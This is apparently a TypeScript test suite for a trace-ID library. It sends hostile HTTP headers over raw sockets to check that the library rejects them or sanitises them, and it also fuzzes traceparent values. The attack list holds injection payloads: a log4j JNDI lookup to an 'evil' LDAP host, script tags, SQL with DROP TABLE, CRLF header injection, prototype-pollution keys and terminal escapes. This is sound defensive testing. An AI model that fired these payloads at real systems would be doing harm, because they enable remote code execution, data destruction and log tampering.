import { once } from 'node:events';
import { createConnection } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { extractTrace, getTraceId, injectTrace, runWithTrace } from '../src/index.js';
import { frameworks, type TestApp } from './apps.js';
import { recordLines, type LogLine } from './lines.js';

const traceId = '0af7651916cd43dd8448eb211c80319c';

// Header lines as they go over the wire.
const attacks: [name: string, headers: string[]][] = [
  ['an id of 15,000 bytes', [`X-Trace-ID: ${'a'.repeat(15_000)}`]],
  ['a request id of 15,000 bytes', [`X-Request-ID: ${'a'.repeat(15_000)}`]],
  ['latin1', ['X-Request-ID: caf\u00e9-caf\u00e9-caf\u00e9']],
  ['a lookup of log4j', ['X-Request-ID: ${jndi:ldap://evil/a}']],
  ['HTML', ['X-Trace-ID: <script>alert(1)</script>']],
  ['SQL', [`X-Request-ID: ' OR 1=1; DROP TABLE x`]],
  ['the trace id twice', ['X-Trace-ID: deadbeef', 'X-Trace-ID: deadbee5']],
  ['the request id twice', ['X-Request-ID: evil-id-1', 'X-Request-ID: evil-id-2']],
  [
    'traceparent twice',
    [`traceparent: 00-${traceId}-b7ad6b7169203331-01`, `traceparent: 00-${traceId}-b7ad6b7169203332-01`],
  ],
  ['a folded header', ['X-Request-ID: evil-id-1', ' folded: more']],
  ['a bare carriage return', ['X-Request-ID: evil-id-1\rX-Injected: 1']],
  ['a bare line feed', ['X-Request-ID: evil-id-1\nX-Injected: 1']],
  ['a null byte', ['X-Request-ID: evil-id\u0000-1']],
  ['an escape sequence for terminals', ['X-Request-ID: \u001b[31mevil-id-1']],
  ['an upper-case traceparent', [`traceparent: 00-${traceId.toUpperCase()}-B7AD6B7169203331-01`]],
  ['zeros', [`traceparent: 00-${'0'.repeat(32)}-${'0'.repeat(16)}-01`, `X-Trace-ID: ${'0'.repeat(32)}`]],
  ['a prototype', ['__proto__: evil-id-1', 'constructor: evil-id-1']],
  [
    'a tracestate of a thousand members',
    [
      `traceparent: 00-${traceId}-b7ad6b7169203331-01`,
      `tracestate: ${Array.from({ length: 1000 }, (_, i) => `evil${i}=1`).join(',')}`,
    ],
  ],
];

describe.each(frameworks)('hostile headers over raw TCP, on %s', (_, start) => {
  let app: TestApp;
  let lines: LogLine[];

  beforeAll(async () => {
    const recorded = recordLines();
    lines = recorded.lines;
    // Trusted: nothing but validation stands between the wire and the log.
    app = await start({ logger: recorded.logger, trustInbound: true });
  });
  afterAll(() => app.close());

  it.each(attacks)('%s', async (_, headers) => {
    lines.length = 0;
    const answer = await speak(app.url, headers);
    expect(answer).toMatch(/^HTTP\/1\.1 (200|400|431) /);
    expect(answer.toLowerCase()).not.toContain('x-injected');
    for (const bad of ['evil', 'jndi', '<script', 'DROP', 'caf\u00e9', 'aaaaaaaaaaaa', '\u001b']) {
      expect(answer).not.toContain(bad);
      expect(JSON.stringify(lines)).not.toContain(bad);
    }
    // A parser that refuses the request answers before any of us.
    const refused = !answer.startsWith('HTTP/1.1 200');
    expect(refused || /^x-trace-id: [0-9a-f]{8}\r$/im.test(answer)).toBe(true);
    expect(refused || /^x-request-id: [0-9a-f]{8}\r$/im.test(answer)).toBe(true);
    expect(lines.every((line) => /^(?!0{32})[0-9a-f]{32}$/.test(line.traceId))).toBe(true);
    const next = await speak(app.url, []);
    expect(next).toMatch(/^HTTP\/1\.1 200 /);
  });
});

describe('10,000 fuzzed traceparents', () => {
  it('never throw and always end in a valid id', () => {
    const random = randomFrom(7);
    const valid = `00-${traceId}-b7ad6b7169203331-01`;
    const alphabet = '0123456789abcdefABCDEFxyz-_ ,;=\r\n\t\u0000\u00e9\u{1f600}<>${}'.split('');
    const pick = <T>(from: readonly T[]): T => from[Math.floor(random() * from.length)]!;
    for (let i = 0; i < 10_000; i++) {
      const characters = valid.split('');
      for (let changes = 1 + Math.floor(random() * 4); changes > 0; changes--) {
        const at = Math.floor(random() * (characters.length + 1));
        pick([
          () => characters.splice(at, 1),
          () => characters.splice(at, 0, pick(alphabet)),
          () => (characters[at] = pick(alphabet)),
          () => (characters.length = at),
          () => characters.push(...characters.slice(0, at)),
        ])();
      }
      const value = pick<unknown>([
        characters.join(''),
        characters.join(''),
        characters.join(''),
        i,
        null,
        {},
        [valid, valid],
      ]);
      const carrier = { traceparent: value, tracestate: characters.join('') };
      for (const trust of [true, false]) expect(extractTrace(carrier, { trust }).id).toMatch(/^[0-9a-f]{8}$/);
      runWithTrace(carrier, () => {
        expect(getTraceId()).toMatch(/^[0-9a-f]{8}$/);
        expect(() => new Headers(injectTrace())).not.toThrow();
      });
    }
  });
});

async function speak(url: string, headers: string[]): Promise<string> {
  const { port } = new URL(url);
  const socket = createConnection(Number(port), '127.0.0.1');
  let answer = '';
  socket.setEncoding('latin1').on('data', (chunk) => (answer += String(chunk)));
  socket.on('error', () => {});
  const head = ['GET /trace HTTP/1.1', 'Host: x', 'Connection: close', ...headers, '', ''];
  socket.write(Buffer.from(head.join('\r\n'), 'latin1'));
  await once(socket, 'close');
  return answer;
}

// mulberry32: the same input on every run.
function randomFrom(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let t = Math.imul(state ^ (state >>> 15), 1 | state);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 2 ** 32;
  };
}
